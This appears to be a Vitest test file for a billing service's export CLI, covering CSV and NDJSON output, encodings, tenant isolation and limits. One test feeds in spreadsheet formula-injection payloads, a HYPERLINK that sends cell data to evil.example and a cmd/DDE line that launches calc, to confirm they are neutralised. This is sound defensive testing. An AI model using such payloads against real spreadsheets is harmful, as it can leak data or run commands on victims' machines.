import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, client, newTenant, type TestApp } from '../helpers/app';
import { buildUsageUnit } from '../helpers/factories/catalog';
import { advance, billingWorld, storeContract } from '../helpers/factories/billing';
import { cli } from '../helpers/cli';
import { EXPORTS_PER_TENANT, exportBatches } from '../../src/services/platform';
import { tenantIdOf } from '../helpers/factories/billing';

let t: TestApp;
let dir: string;
beforeAll(async () => {
  t = await buildTestApp();
  dir = await mkdtemp(join(tmpdir(), 'export-'));
});
afterAll(async () => {
  await t.close();
});

/** A sandbox tenant: a customer named with a comma and a quote, one contract billed April–May 2031, two days of usage. */
async function exportWorld() {
  const keys = await newTenant(t.db);
  const c = client(t.app, keys.sandboxKey);
  const w = await billingWorld(t.db, c, keys.providerId);
  await t.db.updateTable('customer').set({ name: 'Acme, "Inc"' }).where('id', '=', w.customerId).execute();
  const unit = await buildUsageUnit(c);
  await advance(c, '2031-03-20');
  const doc = await storeContract(t.db, w, {
    start: '2031-04-01',
    charges: [{}, { usageUnitId: unit.id, quantity: '0', pricing: { model: 'USAGE', price: '10', tiers: [] } }],
  });
  await advance(c, '2031-04-10');
  const usageCharge = doc.items[0]!.chargeItems[1]!.id;
  for (const day of ['2031-04-01', '2031-04-02'])
    await c.post('/v1/usage/daily/upsert', { contractChargeItemId: usageCharge, usageUnitId: unit.id, targetDate: day, quantity: '3' });
  await advance(c, '2031-05-01');
  return { keys, w, doc };
}

const run = (providerId: string, resource: string, ...extra: string[]) =>
  cli(['export', '--provider', providerId, '--environment', 'sandbox', '--resource', resource, ...extra]);

describe('billing export', () => {
  it('streams each resource as NDJSON, billings with their lines, and reports progress plainly off a terminal', async () => {
    const { keys, w, doc } = await exportWorld();
    const customers = await run(keys.providerId, 'customers');
    expect(customers.code, customers.err.join('\n')).toBe(0);
    const [customer] = customers.out
      .join('\n')
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(customer).toMatchObject({ id: w.customerId, name: 'Acme, "Inc"' });
    expect(customer).not.toHaveProperty('tenantId');
    expect(customers.err.at(-1)).toMatch(/^exported 1 customers in /);
    expect(customers.err).toContain('customers: 1/1 (100 %)');

    const contracts = (await run(keys.providerId, 'contracts')).out
      .join('\n')
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(contracts.map((c: { id: string }) => c.id)).toEqual([doc.id]);

    const billings = (await run(keys.providerId, 'billings')).out
      .join('\n')
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(billings).toHaveLength(2);
    expect(billings[0]).toMatchObject({ contractId: doc.id, customerId: w.customerId, billingDate: '2031-04-01' });
    expect(billings.map((b: { lines: unknown[] }) => b.lines.length)).toEqual([1, 2]);
    expect(billings[1].lines[1]).toMatchObject({ kind: 'USAGE', quantity: '6', billingId: billings[1].id });

    const usage = (await run(keys.providerId, 'usage')).out
      .join('\n')
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(usage.map((u: { targetDate: string; quantity: string }) => [u.targetDate, u.quantity])).toEqual([
      ['2031-04-01', '3'],
      ['2031-04-02', '3'],
    ]);
  });

  it('writes CSV for people to a file: UTF-8 with a BOM, CRLF rows, quoted cells, the API enum names, customer names, no internal columns', async () => {
    const { keys, w, doc } = await exportWorld();
    const file = join(dir, `customers-${keys.providerId}.csv`);
    expect((await run(keys.providerId, 'customers', '--format', 'csv', '--out', file)).code).toBe(0);
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, row, end] = bytes.subarray(3).toString('utf8').split('\r\n');
    expect(header).toBe('id,optionalId,name,crmAccountId,invoicing,closingDay,holidayRule,sendMethod,createTime,updateTime');
    expect(row).toContain(w.customerId);
    expect(row).toContain('"Acme, ""Inc"""');
    expect(row).toMatch(/,INVOICING_PER_BILLING,0,HOLIDAY_RULE_NONE,SEND_METHOD_NONE,/);
    expect(end).toBe('');

    const billingsFile = join(dir, `billings-${keys.providerId}.csv`);
    expect((await run(keys.providerId, 'billings', '--format', 'csv', '--out', billingsFile)).code).toBe(0);
    const rows = (await readFile(billingsFile, 'utf8')).slice(1).split('\r\n').slice(0, -1);
    expect(rows[0]).toBe(
      'invoiceNumber,billingId,status,customerName,customerId,contractId,billingDate,billingDueDate,billingIssueDate,subtotal,tax,total,paidAmount,taxes,invoiceId,createTime,' +
        'line.position,line.name,line.kind,line.periodStart,line.periodEnd,line.quantity,line.unitPrice,line.subtotal,line.taxPercentage',
    );
    expect(rows).toHaveLength(1 + 3); // header + 1 line of April + 2 lines of May
    const cells = rows[3]!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    const at = (name: string) => cells[rows[0]!.split(',').indexOf(name)];
    expect(at('invoiceNumber')).toMatch(/^\d{8}$|^[A-Z0-9_-]+\d{8}$/);
    expect(at('status')).toMatch(/^STATUS_[A-Z_]+$/);
    expect(at('customerName')).toBe('"Acme, ""Inc"""');
    expect(at('contractId')).toBe(doc.id);
    expect(at('line.kind')).toBe('KIND_USAGE');
    expect(at('line.quantity')).toBe('6');
    expect(at('taxes')).toMatch(/^10%: \d+$/);
    for (const internal of ['key', 'live', 'runId', 'issuer', 'liveKey', 'line.key', 'line.live', 'line.billingId'])
      expect(rows[0]!.split(','), internal).not.toContain(internal);

    const usage = await run(keys.providerId, 'usage', '--format', 'csv');
    const usageRows = usage.out
      .join('\n')
      .replace(/^\ufeff/, '')
      .split('\r\n');
    expect(usageRows[0]).toBe(
      'targetDate,quantity,customerName,customerId,contractId,contractChargeItemId,usageUnitId,recordedOn,updateTime',
    );
    expect(usageRows[1]).toMatch(new RegExp(`^2031-04-01,3,"Acme, ""Inc""",${w.customerId},${doc.id},`));
  });

  it('--encoding shift_jis writes Windows Shift_JIS (CP932) without a BOM and counts what it cannot hold', async () => {
    const keys = await newTenant(t.db);
    const c = client(t.app, keys.sandboxKey);
    const w = await billingWorld(t.db, c, keys.providerId);
    await t.db.updateTable('customer').set({ name: '株式会社①テスト〜' }).where('id', '=', w.customerId).execute();
    expect((await c.post('/v1/customer/create', { name: '𠮷野家 😀' })).status).toBe(200);
    const file = join(dir, `sjis-${keys.providerId}.csv`);
    const res = await run(keys.providerId, 'customers', '--format', 'csv', '--encoding', 'shift_jis', '--out', file);
    expect(res.code).toBe(0);
    expect(res.err).toContain('2 character(s) have no Shift_JIS code and were written as "?" (use --encoding utf-8 to keep them)');
    const bytes = await readFile(file);
    expect(bytes[0]).toBe(0x69); // "id", no byte order mark
    // 株式会社①テスト〜 in CP932: 8a94 8eae 89ef 8ed0 8740 8365 8358 8367 8160
    expect(bytes.includes(Buffer.from('8a948eae89ef8ed087408365835883678160', 'hex'))).toBe(true);
    expect(bytes.includes(Buffer.from('3f96ec89c6203f', 'hex'))).toBe(true); // ?野家 ? (𠮷 and 😀 have no code)
  });

  it('CSV neutralises cells a spreadsheet would run as formulas (a leading quote), keeps plain numbers; NDJSON keeps the text', async () => {
    const keys = await newTenant(t.db);
    const c = client(t.app, keys.sandboxKey);
    const w = await billingWorld(t.db, c, keys.providerId);
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\tx', '\rx', '-1200'];
    await t.db.updateTable('customer').set({ name: names[0]! }).where('id', '=', w.customerId).execute();
    for (const name of names.slice(1)) expect((await c.post('/v1/customer/create', { name })).status, name).toBe(200);
    const csv = await run(keys.providerId, 'customers', '--format', 'csv');
    expect(csv.code).toBe(0);
    const text = csv.out.join('\n');
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    expect(text).toContain("'+cmd|' /C calc'!A0");
    expect(text).toContain("'@SUM(A1:A9)");
    expect(text).toContain("'-2+3");
    expect(text).toContain("'\tx");
    expect(text).toContain('"\'\rx"');
    // A plain negative number is a number, not a formula.
    expect(text).toMatch(/,-1200,|,-1200$/m);
    // No cell of the file starts with a formula character.
    for (const line of text.split('\n').slice(1)) {
      for (const cellText of line.split(',')) expect(/^"?[=+@\t]/.test(cellText), cellText).toBe(false);
    }
    const ndjson = (await run(keys.providerId, 'customers')).out.join('\n').split('\n');
    expect(ndjson.map((l) => (JSON.parse(l) as { name: string }).name).sort()).toEqual([...names].sort());
  });

  it("exports nothing of another provider's or the other environment's data", async () => {
    const { keys } = await exportWorld();
    const other = await newTenant(t.db);
    for (const resource of ['customers', 'contracts', 'billings', 'usage']) {
      const res = await run(other.providerId, resource);
      expect(res.code).toBe(0);
      expect(res.out).toEqual([]);
      const prod = await cli(['export', '--provider', keys.providerId, '--environment', 'production', '--resource', resource]);
      expect(prod.out).toEqual([]);
      expect(prod.err.at(-1)).toMatch(new RegExp(`^exported 0 ${resource} in `));
    }
  });

  it(`runs at most ${EXPORTS_PER_TENANT} exports of one tenant at once; one more is refused, another tenant's is not`, async () => {
    const { keys } = await exportWorld();
    const tenantId = await tenantIdOf(t.db, keys.providerId);
    // Exports in progress: each has read its first batch and holds one of the tenant's export leases.
    const running = Array.from({ length: EXPORTS_PER_TENANT }, () => exportBatches(t.db, tenantId, 'customers', { batchSize: 1 }));
    for (const r of running) expect((await r.next()).done).toBe(false);
    const refused = await run(keys.providerId, 'customers');
    expect(refused.code).toBe(1);
    expect(refused.err.join('\n')).toContain(`${EXPORTS_PER_TENANT} exports of this tenant are running already`);
    const other = await newTenant(t.db);
    expect((await run(other.providerId, 'customers')).code).toBe(0);
    // An export left early (its loop ended) gives its lease back.
    await running[0]!.return(undefined);
    expect((await run(keys.providerId, 'customers')).code).toBe(0);
    for (const r of running.slice(1)) await r.return(undefined);
  });

  it.each([
    [['--resource', 'invoices'], '--resource must be one of customers, contracts, billings, usage'],
    [['--resource', 'usage', '--format', 'xml'], '--format must be ndjson or csv'],
    [['--resource', 'usage', '--environment', 'staging'], '--environment'],
    [['--resource', 'usage', '--format', 'csv', '--encoding', 'latin1'], '--encoding must be utf-8 or shift_jis'],
    [['--resource', 'usage', '--encoding', 'shift_jis'], '--encoding applies to --format csv only'],
  ])('refuses %j with exit code 2', async (extra, message) => {
    const tenant = await newTenant(t.db);
    const res = await cli(['export', '--provider', tenant.providerId, '--environment', 'sandbox', ...extra]);
    expect(res.code).toBe(2);
    expect(res.err.join('\n')).toContain(message);
  });

  it('an unknown provider is an error', async () => {
    const res = await cli([
      'export',
      '--provider',
      '01890000-0000-7000-8000-0000000000ff',
      '--environment',
      'sandbox',
      '--resource',
      'usage',
    ]);
    expect(res.code).toBe(2);
    expect(res.err.join('\n')).toContain('not found');
  });
});
